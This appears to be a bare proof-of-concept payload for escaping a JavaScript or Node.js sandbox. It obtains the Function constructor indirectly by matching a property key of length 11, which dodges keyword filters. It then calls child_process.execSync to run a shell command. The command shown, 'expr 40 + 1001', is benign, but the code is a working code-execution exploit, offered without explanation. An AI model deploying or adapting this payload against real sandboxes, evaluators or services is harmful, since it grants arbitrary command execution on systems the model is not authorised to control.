const [[,d]]=Object.entries(Object.getOwnPropertyDescriptors(Object.getPrototypeOf(()=>{}))).filter(([k])=>k.length==11);
d.value('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')();
